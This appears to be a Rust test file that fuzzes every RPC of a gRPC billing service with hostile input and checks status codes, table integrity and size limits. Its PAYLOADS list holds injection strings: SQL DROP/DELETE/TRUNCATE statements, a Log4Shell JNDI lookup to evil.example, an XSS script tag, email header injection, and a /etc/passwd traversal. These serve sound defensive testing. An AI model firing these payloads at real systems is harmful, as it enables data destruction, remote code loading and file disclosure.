//! Hostile input against every RPC of every service: proptest-generated
//! messages (SQL-injection payloads, NUL, RTL/zero-width/emoji/combining
//! Unicode, 10k-character strings, extreme integers, unknown enum numbers,
//! random repeated fields and maps) on one server. Every call must come back
//! with a status that is neither INTERNAL nor UNKNOWN (a handler panic shows
//! as one of those, or as a dead connection), and an INVALID_ARGUMENT must
//! leave every table as it was. Oversized messages and metadata are refused
//! by the server's limits.

use std::fmt::Debug;
use std::future::Future;
use std::pin::Pin;

use billing::proto::{
    self, audit_client::AuditClient, balance_policy_client::BalancePolicyClient,
    balances_client::BalancesClient, notifications_client::NotificationsClient,
    payment_methods_client::PaymentMethodsClient,
};
use proptest::prelude::*;
use proptest::test_runner::{Config, TestCaseError, TestRunner};
use tonic::transport::Channel;
use tonic::{Code, Status};

use crate::helpers::{TestApp, authed, spawn_app, table_counts};
use crate::payment_methods::{VISA, add_active_card, card, unique_visa};

const ACCT: &str = "acme";
const CASES_PER_RPC: u32 = 40;

/// Strings an attacker (or a broken client) sends.
const PAYLOADS: &[&str] = &[
    "'; DROP TABLE accounts;--",
    "' OR '1'='1",
    "acme'; DELETE FROM ledger_entries WHERE '1'='1",
    "acme' --",
    "\"; TRUNCATE payment_methods; --",
    "1; SELECT pg_sleep(10)",
    "$1",
    "%",
    "_",
    "\\",
    "\0",
    "acme\0",
    "a\0b",
    "\u{202E}moc.elpmaxe@evil",
    "\u{200B}",
    "acme\u{200D}",
    "\u{FEFF}acme",
    "👨\u{200D}👩\u{200D}👧\u{200D}👦",
    "e\u{0301}\u{0301}\u{0301}\u{0301}",
    "𝕬𝖈𝖒𝖊",
    "ᴬᶜᵐᵉ",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a@b.com\r\nBcc: victim@example.com",
    "../../../../etc/passwd",
    "NULL",
    "-1",
    "p1.-1",
    "p1.7fffffffffffffff",
    "p1.ffffffffffffffffff",
    "00000000-0000-0000-0000-000000000000",
    "pm_",
];

fn hostile_text() -> BoxedStrategy<String> {
    prop_oneof![
        4 => proptest::sample::select(PAYLOADS).prop_map(str::to_owned),
        3 => any::<String>(),
        2 => "[a-z0-9._:-]{1,12}",
        1 => (
            proptest::sample::select(vec!["a", "é", "👍", "\u{200B}", "'", "\0", "\u{202E}"]),
            1000usize..=10_000,
        )
            .prop_map(|(unit, n)| unit.repeat(n)),
        1 => Just(String::new()),
    ]
    .boxed()
}

fn account_id() -> BoxedStrategy<String> {
    prop_oneof![3 => Just(ACCT.to_owned()), 2 => hostile_text()].boxed()
}

fn amount() -> BoxedStrategy<String> {
    prop_oneof![
        3 => "[0-9]{1,3}(\\.[0-9]{1,7})?",
        2 => hostile_text(),
        2 => proptest::sample::select(vec![
            "-1", "-0", "0", "0.00", "1e3", "+1", "0.0000001", "999999999999.99",
            "1000000000000", "NaN", "inf", "1,50", " 1", "1.", ".5", "١٢",
            "79228162514264337593543950335",
        ])
        .prop_map(str::to_owned),
    ]
    .boxed()
}

fn int32() -> BoxedStrategy<i32> {
    prop_oneof![
        any::<i32>(),
        Just(i32::MIN),
        Just(i32::MAX),
        Just(-1),
        0..300
    ]
    .boxed()
}

fn int64() -> BoxedStrategy<i64> {
    prop_oneof![
        any::<i64>(),
        Just(i64::MIN),
        Just(i64::MAX),
        Just(-1),
        0i64..10_000
    ]
    .boxed()
}

fn enum_number() -> BoxedStrategy<i32> {
    prop_oneof![3 => -2..12i32, 1 => any::<i32>()].boxed()
}

fn timestamp() -> BoxedStrategy<Option<prost_types::Timestamp>> {
    proptest::option::of(
        (
            prop_oneof![
                any::<i64>(),
                // chrono accepts ±262,143 years; Postgres does not.
                -8_300_000_000_000i64..8_300_000_000_000,
                0i64..4_000_000_000,
            ],
            prop_oneof![any::<i32>(), 0..1_000_000_000i32],
        )
            .prop_map(|(seconds, nanos)| prost_types::Timestamp { seconds, nanos }),
    )
    .boxed()
}

fn texts(max: usize) -> BoxedStrategy<Vec<String>> {
    proptest::collection::vec(hostile_text(), 0..max).boxed()
}

fn metadata() -> BoxedStrategy<std::collections::HashMap<String, String>> {
    proptest::collection::hash_map(hostile_text(), hostile_text(), 0..40).boxed()
}

fn idempotency_key() -> BoxedStrategy<String> {
    prop_oneof!["[a-zA-Z0-9-]{1,24}", hostile_text()].boxed()
}

/// The ids a request may name: a real one of the account, or anything.
fn id_or(real: &str) -> BoxedStrategy<String> {
    prop_oneof![2 => Just(real.to_owned()), 3 => hostile_text()].boxed()
}

type Call = Pin<Box<dyn Future<Output = Result<(), Status>> + Send>>;

struct Fuzz {
    app: TestApp,
    service: String,
    admin: String,
    card_id: String,
    failures: Vec<String>,
}

impl Fuzz {
    fn balances(&self) -> BalancesClient<Channel> {
        self.app.balances()
    }
    fn policy(&self) -> BalancePolicyClient<Channel> {
        BalancePolicyClient::new(self.app.channel.clone())
    }
    fn methods(&self) -> PaymentMethodsClient<Channel> {
        PaymentMethodsClient::new(self.app.channel.clone())
    }
    fn notifications(&self) -> NotificationsClient<Channel> {
        NotificationsClient::new(self.app.channel.clone())
    }

    /// Runs `CASES_PER_RPC` generated messages through `call`, checking each answer.
    fn rpc<S>(&mut self, name: &str, strategy: S, call: impl Fn(S::Value) -> Call)
    where
        S: Strategy,
        S::Value: Debug,
    {
        let handle = tokio::runtime::Handle::current();
        let pool = self.app.pool.clone();
        let mut runner = TestRunner::new(Config {
            cases: CASES_PER_RPC,
            failure_persistence: None,
            max_shrink_iters: 64,
            ..Config::default()
        });
        let outcome = runner.run(&strategy, |message| {
            tokio::task::block_in_place(|| {
                handle.block_on(async {
                    let before = table_counts(&pool).await;
                    let result = call(message).await;
                    let code = result.as_ref().err().map_or(Code::Ok, Status::code);
                    if matches!(
                        code,
                        Code::Internal
                            | Code::Unknown
                            | Code::Unavailable
                            | Code::DataLoss
                            | Code::Cancelled
                            | Code::DeadlineExceeded
                    ) {
                        return Err(TestCaseError::fail(format!("{name}: {result:?}")));
                    }
                    if code == Code::InvalidArgument {
                        let after = table_counts(&pool).await;
                        if after != before {
                            return Err(TestCaseError::fail(format!(
                                "{name}: INVALID_ARGUMENT but rows changed: {before:?} -> {after:?}"
                            )));
                        }
                    }
                    Ok(())
                })
            })
        });
        if let Err(error) = outcome {
            let mut text = error.to_string();
            text.truncate(4000);
            self.failures.push(text);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_rpc_answers_hostile_messages_with_a_status_and_writes_nothing_when_invalid() {
    let app = spawn_app().await;
    app.account_with_balance(ACCT, "500.00").await;
    let service = app.service_token();
    let admin = app.token("admin", Some(ACCT));
    let card_id = add_active_card(&app, &admin, ACCT, VISA).await;
    let mut fuzz = Fuzz {
        app,
        service,
        admin,
        card_id,
        failures: Vec::new(),
    };

    // Balances (service RPCs and reads: the service token reaches every account).
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "CreateAccount",
        (
            hostile_text(),
            hostile_text(),
            hostile_text(),
            hostile_text(),
            amount(),
            hostile_text(),
        )
            .prop_map(
                |(account_id, currency, display_name, billing_email, credit, key)| {
                    proto::CreateAccountRequest {
                        account_id,
                        currency,
                        display_name,
                        billing_email,
                        credit,
                        idempotency_key: key,
                    }
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.create_account(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "GetBalance",
        account_id().prop_map(|account_id| proto::GetBalanceRequest { account_id }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.get_balance(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "Debit",
        (
            account_id(),
            amount(),
            idempotency_key(),
            hostile_text(),
            metadata(),
            any::<bool>(),
        )
            .prop_map(
                |(account_id, amount, idempotency_key, description, metadata, allow_overdraft)| {
                    proto::DebitRequest {
                        account_id,
                        amount,
                        idempotency_key,
                        description,
                        metadata,
                        allow_overdraft,
                    }
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.debit(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "Credit",
        (
            account_id(),
            amount(),
            enum_number(),
            idempotency_key(),
            hostile_text(),
            metadata(),
        )
            .prop_map(
                |(account_id, amount, kind, idempotency_key, description, metadata)| {
                    proto::CreditRequest {
                        account_id,
                        amount,
                        kind,
                        idempotency_key,
                        description,
                        metadata,
                    }
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.credit(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "ListTransactions",
        (
            account_id(),
            int32(),
            hostile_text(),
            proptest::collection::vec(enum_number(), 0..20),
            timestamp(),
            timestamp(),
        )
            .prop_map(
                |(account_id, page_size, page_token, kinds, created_after, created_before)| {
                    proto::ListTransactionsRequest {
                        account_id,
                        page_size,
                        page_token,
                        kinds,
                        created_after,
                        created_before,
                    }
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.list_transactions(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "WatchBalanceEvents",
        (account_id(), int64()).prop_map(|(account_id, after_cursor)| {
            proto::WatchBalanceEventsRequest {
                account_id,
                after_cursor,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.watch_balance_events(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.balances(), fuzz.service.clone());
    fuzz.rpc(
        "VerifyLedger",
        account_id().prop_map(|account_id| proto::VerifyLedgerRequest { account_id }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.verify_ledger(authed(&t, m)).await.map(drop) })
        },
    );

    // BalancePolicy (manage with the account's admin token).
    let (c, t) = (fuzz.policy(), fuzz.admin.clone());
    fuzz.rpc(
        "GetLowBalanceSettings",
        account_id().prop_map(|account_id| proto::GetLowBalanceSettingsRequest { account_id }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.get_low_balance_settings(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.policy(), fuzz.admin.clone());
    fuzz.rpc(
        "ApplyLowBalanceSettings",
        (
            account_id(),
            (any::<bool>(), amount(), amount()),
            (any::<bool>(), amount(), int32(), amount()),
        )
            .prop_map(
                |(
                    account_id,
                    (auto_refill_enabled, threshold, refill_amount),
                    (
                        notification_enabled,
                        notification_threshold,
                        max_top_ups_per_day,
                        max_amount_per_day,
                    ),
                )| proto::ApplyLowBalanceSettingsRequest {
                    account_id,
                    auto_refill_enabled,
                    threshold,
                    refill_amount,
                    notification_enabled,
                    notification_threshold,
                    max_top_ups_per_day,
                    max_amount_per_day,
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.apply_low_balance_settings(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.policy(), fuzz.admin.clone());
    fuzz.rpc(
        "ListTopUps",
        (account_id(), int32(), hostile_text()).prop_map(|(account_id, page_size, page_token)| {
            proto::ListTopUpsRequest {
                account_id,
                page_size,
                page_token,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.list_top_ups(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.policy(), fuzz.admin.clone());
    fuzz.rpc(
        "GetTopUp",
        (account_id(), hostile_text()).prop_map(|(account_id, top_up_id)| proto::GetTopUpRequest {
            account_id,
            top_up_id,
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.get_top_up(authed(&t, m)).await.map(drop) })
        },
    );

    // PaymentMethods.
    let card_id = fuzz.card_id.clone();
    let card_details = (
        prop_oneof![
            2 => hostile_text(),
            1 => Just(VISA.to_owned()),
            1 => (0u32..999_999).prop_map(unique_visa),
        ],
        int32(),
        int32(),
        prop_oneof![hostile_text(), "[0-9]{3,4}"],
        hostile_text(),
    )
        .prop_map(
            |(number, exp_month, exp_year, cvc, holder_name)| proto::CardDetails {
                number,
                exp_month,
                exp_year,
                cvc,
                holder_name,
            },
        );
    let source = proptest::option::of(prop_oneof![
        prop_oneof![
            card_details,
            (0u32..999_999).prop_map(|n| card(&unique_visa(n)))
        ]
        .prop_map(proto::add_card_request::Source::Card),
        hostile_text().prop_map(proto::add_card_request::Source::GatewayToken),
    ]);
    let address =
        proptest::option::of((texts(7), hostile_text()).prop_map(|(mut parts, country)| {
            parts.resize(6, String::new());
            proto::BillingAddress {
                line1: parts[0].clone(),
                line2: parts[1].clone(),
                city: parts[2].clone(),
                postal_code: parts[3].clone(),
                state: parts[4].clone(),
                country: if parts[5].is_empty() {
                    country
                } else {
                    parts[5].clone()
                },
            }
        }));
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "AddCard",
        (account_id(), source, address, idempotency_key()).prop_map(
            |(account_id, source, billing_address, idempotency_key)| proto::AddCardRequest {
                account_id,
                source,
                billing_address,
                idempotency_key,
            },
        ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.add_card(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "ConfirmCard",
        (account_id(), id_or(&card_id), enum_number()).prop_map(
            |(account_id, payment_method_id, authentication_result)| proto::ConfirmCardRequest {
                account_id,
                payment_method_id,
                authentication_result,
            },
        ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.confirm_card(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "ListPaymentMethods",
        (account_id(), int32(), hostile_text()).prop_map(|(account_id, page_size, page_token)| {
            proto::ListPaymentMethodsRequest {
                account_id,
                page_size,
                page_token,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.list_payment_methods(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "GetPaymentMethod",
        (account_id(), id_or(&card_id)).prop_map(|(account_id, payment_method_id)| {
            proto::GetPaymentMethodRequest {
                account_id,
                payment_method_id,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.get_payment_method(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "SetAutoCharge",
        (account_id(), id_or(&card_id), any::<bool>()).prop_map(
            |(account_id, payment_method_id, enabled)| proto::SetAutoChargeRequest {
                account_id,
                payment_method_id,
                enabled,
            },
        ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.set_auto_charge(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "ReorderPaymentMethods",
        (
            account_id(),
            proptest::collection::vec(id_or(&card_id), 0..20),
        )
            .prop_map(|(account_id, payment_method_ids)| {
                proto::ReorderPaymentMethodsRequest {
                    account_id,
                    payment_method_ids,
                }
            }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.reorder_payment_methods(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "AddFunds",
        (
            account_id(),
            amount(),
            prop_oneof![Just(String::new()), id_or(&card_id)],
            idempotency_key(),
        )
            .prop_map(|(account_id, amount, payment_method_id, idempotency_key)| {
                proto::AddFundsRequest {
                    account_id,
                    amount,
                    payment_method_id,
                    idempotency_key,
                }
            }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.add_funds(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "RetryPaymentMethod",
        (account_id(), id_or(&card_id), idempotency_key(), amount()).prop_map(
            |(account_id, payment_method_id, idempotency_key, amount)| {
                proto::RetryPaymentMethodRequest {
                    account_id,
                    payment_method_id,
                    idempotency_key,
                    amount,
                }
            },
        ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.retry_payment_method(authed(&t, m)).await.map(drop) })
        },
    );
    // Last, so that the other calls still find a card.
    let (c, t) = (fuzz.methods(), fuzz.admin.clone());
    fuzz.rpc(
        "RemovePaymentMethod",
        (account_id(), id_or(&card_id)).prop_map(|(account_id, payment_method_id)| {
            proto::RemovePaymentMethodRequest {
                account_id,
                payment_method_id,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.remove_payment_method(authed(&t, m)).await.map(drop) })
        },
    );

    // Notifications.
    let (c, t) = (fuzz.notifications(), fuzz.admin.clone());
    fuzz.rpc(
        "GetNotificationSettings",
        account_id().prop_map(|account_id| proto::GetNotificationSettingsRequest { account_id }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.get_notification_settings(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.notifications(), fuzz.admin.clone());
    fuzz.rpc(
        "UpdateNotificationSettings",
        (
            account_id(),
            proptest::collection::vec(
                prop_oneof!["[a-z]{1,8}@example\\.com", hostile_text()],
                0..15,
            ),
            proptest::collection::vec(enum_number(), 0..15),
        )
            .prop_map(|(account_id, recipients, enabled_kinds)| {
                proto::UpdateNotificationSettingsRequest {
                    account_id,
                    recipients,
                    enabled_kinds,
                }
            }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move {
                c.update_notification_settings(authed(&t, m))
                    .await
                    .map(drop)
            })
        },
    );
    let (c, t) = (fuzz.notifications(), fuzz.admin.clone());
    fuzz.rpc(
        "ListNotifications",
        (account_id(), int32(), hostile_text()).prop_map(|(account_id, page_size, page_token)| {
            proto::ListNotificationsRequest {
                account_id,
                page_size,
                page_token,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.list_notifications(authed(&t, m)).await.map(drop) })
        },
    );
    let (c, t) = (fuzz.notifications(), fuzz.admin.clone());
    fuzz.rpc(
        "SendTestNotification",
        (account_id(), idempotency_key()).prop_map(|(account_id, idempotency_key)| {
            proto::SendTestNotificationRequest {
                account_id,
                idempotency_key,
            }
        }),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.send_test_notification(authed(&t, m)).await.map(drop) })
        },
    );

    // Audit.
    let c = AuditClient::new(fuzz.app.channel.clone());
    let t = fuzz.admin.clone();
    fuzz.rpc(
        "ListAuditEvents",
        (
            account_id(),
            int32(),
            hostile_text(),
            prop_oneof![Just(String::new()), hostile_text()],
            prop_oneof![Just(String::new()), hostile_text()],
            timestamp(),
            timestamp(),
        )
            .prop_map(
                |(account_id, page_size, page_token, actor_subject, action, after, before)| {
                    proto::ListAuditEventsRequest {
                        account_id,
                        page_size,
                        page_token,
                        actor_subject,
                        action,
                        created_after: after,
                        created_before: before,
                    }
                },
            ),
        move |m| {
            let (mut c, t) = (c.clone(), t.clone());
            Box::pin(async move { c.list_audit_events(authed(&t, m)).await.map(drop) })
        },
    );

    assert!(fuzz.failures.is_empty(), "{}", fuzz.failures.join("\n\n"));
    // Still serving, and the ledger still adds up.
    let report = fuzz
        .balances()
        .verify_ledger(authed(
            &fuzz.service,
            proto::VerifyLedgerRequest {
                account_id: String::new(),
            },
        ))
        .await
        .expect("the server still answers")
        .into_inner();
    assert!(report.mismatches.is_empty(), "{:?}", report.mismatches);
    fuzz.app.stop().await;
}

/// Code and stored text: a payload is either kept byte for byte or refused
/// as INVALID_ARGUMENT (control characters); never anything else.
fn stored_verbatim_or_refused(
    what: &str,
    payload: &str,
    result: Result<String, Status>,
    failures: &mut Vec<String>,
) {
    match result {
        Ok(stored) if stored == payload => {}
        Ok(stored) => failures.push(format!("{what} {payload:?} stored as {stored:?}")),
        Err(status) if status.code() == Code::InvalidArgument => {}
        Err(status) => failures.push(format!("{what} {payload:?}: {status:?}")),
    }
}

#[tokio::test]
async fn injection_and_unicode_payloads_in_every_text_field_are_stored_verbatim_or_refused() {
    let app = spawn_app().await;
    app.account_with_balance(ACCT, "100.00").await;
    let service = app.service_token();
    let admin = app.token("admin", Some(ACCT));
    let mut failures = Vec::new();
    let mut methods = PaymentMethodsClient::new(app.channel.clone());
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let created = app
            .balances()
            .create_account(authed(
                &service,
                proto::CreateAccountRequest {
                    account_id: format!("payload-{n}"),
                    display_name: (*payload).into(),
                    ..Default::default()
                },
            ))
            .await
            .map(|r| r.into_inner().account.unwrap().display_name);
        stored_verbatim_or_refused("display_name", payload, created, &mut failures);

        let debited = app
            .balances()
            .debit(authed(
                &service,
                proto::DebitRequest {
                    account_id: ACCT.into(),
                    amount: "0.01".into(),
                    idempotency_key: format!("payload-{n}"),
                    description: (*payload).into(),
                    metadata: [("k".to_owned(), (*payload).to_owned())].into(),
                    ..Default::default()
                },
            ))
            .await
            .map(|r| r.into_inner().transaction.unwrap());
        let description = debited.clone().map(|t| t.description);
        stored_verbatim_or_refused("description", payload, description, &mut failures);
        let value = debited.map(|t| t.metadata["k"].clone());
        stored_verbatim_or_refused("metadata value", payload, value, &mut failures);

        let mut holder = card(&unique_visa(n as u32));
        holder.holder_name = (*payload).into();
        let mut request =
            crate::payment_methods::add_card_request(ACCT, holder, &format!("payload-card-{n}"));
        request.billing_address.as_mut().unwrap().line1 = (*payload).into();
        let added = methods
            .add_card(authed(&admin, request))
            .await
            .map(|r| r.into_inner().payment_method.unwrap());
        let holder_name = added.clone().map(|m| m.holder_name);
        stored_verbatim_or_refused("holder_name", payload, holder_name, &mut failures);
        let line1 = added.map(|m| m.billing_address.unwrap().line1);
        stored_verbatim_or_refused("billing_address.line1", payload, line1, &mut failures);

        // An email or an idempotency key with a payload is never a valid one.
        let updated = NotificationsClient::new(app.channel.clone())
            .update_notification_settings(authed(
                &admin,
                proto::UpdateNotificationSettingsRequest {
                    account_id: ACCT.into(),
                    recipients: vec![format!("ops{payload}@example.com")],
                    enabled_kinds: vec![],
                },
            ))
            .await;
        if let Err(status) = &updated {
            if status.code() != Code::InvalidArgument {
                failures.push(format!("recipient {payload:?}: {status:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // Every table is still there and the ledger adds up.
    let report = app
        .balances()
        .verify_ledger(authed(&service, proto::VerifyLedgerRequest::default()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        report.accounts_checked,
        table_counts(&app.pool).await["accounts"]
    );
    assert!(report.mismatches.is_empty());
    app.stop().await;
}

#[tokio::test]
async fn a_five_mib_message_is_refused_by_the_size_limit_and_writes_nothing() {
    let app = spawn_app().await;
    app.account_with_balance(ACCT, "100.00").await;
    let before = table_counts(&app.pool).await;
    let error = app
        .balances()
        .debit(authed(
            &app.service_token(),
            proto::DebitRequest {
                account_id: ACCT.into(),
                amount: "1.00".into(),
                idempotency_key: "huge".into(),
                description: "x".repeat(5 * 1024 * 1024),
                ..Default::default()
            },
        ))
        .await
        .unwrap_err();
    assert!(
        matches!(error.code(), Code::ResourceExhausted | Code::OutOfRange),
        "{error:?}"
    );
    assert_eq!(table_counts(&app.pool).await, before);
    // Just over the 1 MiB limit is refused as well; well under it is decoded.
    let just_over = app
        .balances()
        .debit(authed(
            &app.service_token(),
            proto::DebitRequest {
                account_id: ACCT.into(),
                amount: "1.00".into(),
                idempotency_key: "just-over".into(),
                description: "x".repeat(billing::server::MAX_REQUEST_MESSAGE_BYTES),
                ..Default::default()
            },
        ))
        .await
        .unwrap_err();
    // tonic answers OUT_OF_RANGE, naming the explicit 1 MiB limit (its default is 4 MiB).
    assert!(
        matches!(just_over.code(), Code::ResourceExhausted | Code::OutOfRange),
        "{just_over:?}"
    );
    assert!(just_over.message().contains("1048576"), "{just_over:?}");
    let well_under = app
        .balances()
        .debit(authed(
            &app.service_token(),
            proto::DebitRequest {
                account_id: ACCT.into(),
                amount: "1.00".into(),
                idempotency_key: "under".into(),
                description: "x".repeat(100 * 1024),
                ..Default::default()
            },
        ))
        .await
        .unwrap_err();
    // Decoded, then refused by the description's own bound.
    assert_eq!(well_under.code(), Code::InvalidArgument, "{well_under:?}");
    assert_eq!(table_counts(&app.pool).await, before);
    app.stop().await;
}

async fn still_serving(app: &TestApp) {
    let mut health = tonic_health::pb::health_client::HealthClient::new(app.channel.clone());
    let answer = health
        .check(tonic_health::pb::HealthCheckRequest::default())
        .await
        .expect("the server still answers health checks")
        .into_inner();
    assert_eq!(
        answer.status,
        tonic_health::pb::health_check_response::ServingStatus::Serving as i32
    );
    let balance = app
        .balances()
        .get_balance(authed(
            &app.service_token(),
            proto::GetBalanceRequest {
                account_id: ACCT.into(),
            },
        ))
        .await
        .expect("the server still serves RPCs")
        .into_inner();
    assert_eq!(balance.balance, "100.00");
}

/// The HTTP/2 layer refused the headers (GOAWAY/RST_STREAM), before any
/// handler or the token check saw them.
fn refused_by_the_header_limit<T: Debug>(result: Result<T, Status>) {
    let status = result.expect_err("oversized headers were accepted");
    assert_ne!(status.code(), Code::Unauthenticated, "{status:?}");
    assert!(
        std::error::Error::source(&status).is_some(),
        "not refused by the transport: {status:?}"
    );
}

#[tokio::test]
async fn oversized_metadata_is_refused_and_the_server_stays_healthy() {
    let app = spawn_app().await;
    app.account_with_balance(ACCT, "100.00").await;
    let before = table_counts(&app.pool).await;
    let debit = || proto::DebitRequest {
        account_id: ACCT.into(),
        amount: "1.00".into(),
        idempotency_key: "metadata".into(),
        ..Default::default()
    };

    // A 64 KiB authorization header.
    let mut huge_token = tonic::Request::new(debit());
    huge_token.metadata_mut().insert(
        "authorization",
        format!("Bearer {}", "a".repeat(64 * 1024)).parse().unwrap(),
    );
    let refused = app.balances().debit(huge_token).await;
    refused_by_the_header_limit(refused);
    still_serving(&app).await;

    // A valid token buried under 1,000 extra headers (about 100 KiB).
    let mut many = authed(&app.service_token(), debit());
    for index in 0..1000 {
        many.metadata_mut().insert(
            tonic::metadata::MetadataKey::from_bytes(format!("x-padding-{index}").as_bytes())
                .unwrap(),
            "p".repeat(90).parse().unwrap(),
        );
    }
    let refused = app.balances().debit(many).await;
    refused_by_the_header_limit(refused);
    assert_eq!(table_counts(&app.pool).await, before, "nothing was debited");
    still_serving(&app).await;
    app.stop().await;
}

/// Sends raw bytes as a request body: what a broken or hostile client can.
#[derive(Default)]
struct RawBody;

struct RawEncoder;

impl tonic::codec::Encoder for RawEncoder {
    type Item = Vec<u8>;
    type Error = Status;

    fn encode(
        &mut self,
        item: Vec<u8>,
        buf: &mut tonic::codec::EncodeBuf<'_>,
    ) -> Result<(), Status> {
        bytes::BufMut::put_slice(buf, &item);
        Ok(())
    }
}

impl tonic::codec::Codec for RawBody {
    type Encode = Vec<u8>;
    type Decode = proto::DebitResponse;
    type Encoder = RawEncoder;
    type Decoder = tonic_prost::ProstDecoder<proto::DebitResponse>;

    fn encoder(&mut self) -> RawEncoder {
        RawEncoder
    }

    fn decoder(&mut self) -> Self::Decoder {
        tonic_prost::ProstDecoder::new(Default::default())
    }
}

/// The rule: a body that does not decode is the caller's bad input, like
/// any bad field — `INVALID_ARGUMENT` naming the field, nothing written,
/// and logged as a caller's mistake (not `INTERNAL`, an ERROR line each).
#[tokio::test]
async fn a_request_body_that_does_not_decode_is_invalid_argument_naming_the_field() {
    let app = spawn_app().await;
    app.account_with_balance(ACCT, "100.00").await;
    let before = table_counts(&app.pool).await;
    let cases: [(&[u8], &str); 3] = [
        // description (field 4) holding bytes that are not UTF-8
        (&[0x22, 0x02, 0xc3, 0x28], "description"),
        // account_id (field 1, a string) sent as a number
        (&[0x08, 0xff, 0x01], "account_id"),
        // not a field at all: tag 0
        (&[0x00, 0x01], "request"),
    ];
    for (body, field) in cases {
        let mut grpc = tonic::client::Grpc::new(app.channel.clone());
        grpc.ready().await.unwrap();
        let status = grpc
            .unary(
                authed(&app.service_token(), body.to_vec()),
                http::uri::PathAndQuery::from_static("/billing.v1.Balances/Debit"),
                RawBody,
            )
            .await
            .unwrap_err();
        assert_eq!(status.code(), Code::InvalidArgument, "{body:?}: {status:?}");
        let details = tonic_types::StatusExt::get_error_details(&status);
        let violations = &details
            .bad_request()
            .expect("a BadRequest")
            .field_violations;
        assert_eq!(violations[0].field, field, "{body:?}: {status:?}");
    }
    assert_eq!(table_counts(&app.pool).await, before);
    still_serving(&app).await;
    app.stop().await;
}
